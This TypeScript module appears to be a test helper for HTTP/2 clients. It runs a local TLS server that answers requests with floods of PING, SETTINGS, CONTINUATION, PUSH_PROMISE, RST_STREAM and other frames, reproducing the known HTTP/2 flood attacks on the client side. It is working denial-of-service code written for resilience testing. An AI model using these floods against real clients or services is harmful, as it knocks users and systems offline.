// A server that floods its clients with HTTP/2 frames, as no library does: the attacks of CVE-2019-9511 to 9518, CVE-2023-44487 (rapid reset)
// and CVE-2024-27316 (CONTINUATION), turned against a client. Frames: RFC 9113 section 4.1 and 6.
import { type AddressInfo, connect, createServer, type Socket } from 'node:net'
import { createServer as createTlsServer, type TLSSocket } from 'node:tls'

const DATA = 0
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const PUSH_PROMISE = 5
const PING = 6
const GOAWAY = 7
const CONTINUATION = 9
const END_HEADERS = 4
const PREFACE_BYTES = 24
const WRITE_BYTES = 64 * 1024

function frame(type: number, flags: number, stream: number, payload: readonly number[] | Buffer = []): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, Buffer.from(payload)])
}

const STATUS_200 = [0x88]
const STATUS_103 = [0x08, 3, 0x31, 0x30, 0x33]
const HEADER_FIELDS = Buffer.alloc(16_000, Buffer.from([0, 1, 0x61, 1, 0x62]))

/** What follows a request: `first` once, `endless` again and again. */
const FLOODS = {
  pings: (): Flood => ({ endless: frame(PING, 0, 0, Buffer.alloc(8)) }),
  settings: (): Flood => ({ endless: frame(SETTINGS, 0, 0) }),
  'settings that change the table': (): Flood => ({ endless: frame(SETTINGS, 0, 0, [0, 1, 0, 0, 16, 0]) }),
  'frames of no known type': (): Flood => ({ endless: frame(0xfa, 0, 0, Buffer.alloc(1_000)) }),
  goaways: (): Flood => ({ endless: frame(GOAWAY, 0, 0, [0x7f, 0xff, 0xff, 0xff, 0, 0, 0, 0]) }),
  'headers without end': (stream: number): Flood => ({
    first: frame(HEADERS, 0, stream, STATUS_200),
    endless: frame(CONTINUATION, 0, stream, HEADER_FIELDS),
  }),
  'early hints': (stream: number): Flood => ({ endless: frame(HEADERS, END_HEADERS, stream, STATUS_103) }),
  'empty data': (stream: number): Flood => ({
    first: frame(HEADERS, END_HEADERS, stream, STATUS_200),
    endless: frame(DATA, 0, stream),
  }),
  'promises of pushes': (stream: number): Flood => ({
    endless: frame(PUSH_PROMISE, END_HEADERS, stream, [0, 0, 0, 2, 0x82, 0x84, 0x87]),
  }),
  'resets of every request': (stream: number): Flood => ({ first: frame(RST_STREAM, 0, stream, [0, 0, 0, 7]) }),
} as const

interface Flood {
  readonly first?: Buffer
  readonly endless?: Buffer
}

export type FloodKind = keyof typeof FLOODS
export const FLOOD_KINDS = Object.keys(FLOODS) as FloodKind[]

export interface FloodServer extends AsyncDisposable {
  readonly url: string
  /** Connections that were flooded. */
  readonly flooded: number
}

/** `honest`: the first connections are led to the server on this port instead, as many as `count`. */
export async function startFlood(
  kind: FloodKind,
  tls: { readonly cert: string; readonly key: string },
  honest: { readonly port: number; readonly count: number } = { port: 0, count: 0 },
): Promise<FloodServer> {
  const sockets = new Set<Socket>()
  const track = (socket: Socket) => {
    sockets.add(socket)
    socket.on('error', () => {}).on('close', () => sockets.delete(socket))
  }
  const flooder = createTlsServer({ ...tls, ALPNProtocols: ['h2'] }, (socket) => floodOn(socket, kind))
  flooder.on('connection', track).on('tlsClientError', () => {})
  const inner = await listen(flooder)
  let connections = 0
  const front = createServer((socket) => {
    const port = connections++ < honest.count ? honest.port : inner
    const other = connect(port, '127.0.0.1')
    track(socket)
    track(other)
    socket.pipe(other).pipe(socket)
    socket.on('close', () => other.destroy())
    other.on('close', () => socket.destroy())
  })
  const port = await listen(front)
  return {
    url: `https://127.0.0.1:${port}`,
    get flooded() {
      return Math.max(0, connections - honest.count)
    },
    [Symbol.asyncDispose]: async () => {
      front.close()
      flooder.close()
      for (const socket of sockets) socket.destroy()
    },
  }
}

function floodOn(socket: TLSSocket, kind: FloodKind): void {
  socket.on('error', () => {})
  socket.write(frame(SETTINGS, 0, 0))
  let seen = Buffer.alloc(0)
  let skip = PREFACE_BYTES
  let isOn = false
  socket.on('data', (chunk: Buffer) => {
    seen = Buffer.concat([seen, chunk])
    if (seen.length < skip) return
    seen = seen.subarray(skip)
    skip = 0
    for (let size = sizeOf(seen); size <= seen.length; size = sizeOf(seen)) {
      const [type, stream] = [seen[3], seen.readUInt32BE(5) & 0x7fffffff]
      seen = seen.subarray(size)
      if (type !== HEADERS) continue
      const { first, endless } = FLOODS[kind](stream)
      if (first && !isOn) socket.write(first)
      if (endless && !isOn)
        pour(socket, Buffer.alloc(Math.ceil(WRITE_BYTES / endless.length) * endless.length, endless))
      isOn = endless !== undefined
    }
  })
}

function sizeOf(seen: Buffer): number {
  return seen.length < 9 ? Number.POSITIVE_INFINITY : 9 + seen.readUIntBE(0, 3)
}

/** Writes as fast as the client reads. */
function pour(socket: TLSSocket, bytes: Buffer): void {
  const next = () => {
    if (socket.destroyed) return
    if (socket.write(bytes)) setImmediate(next)
    else socket.once('drain', next)
  }
  next()
}

function listen(server: ReturnType<typeof createServer>): Promise<number> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port))
  })
}
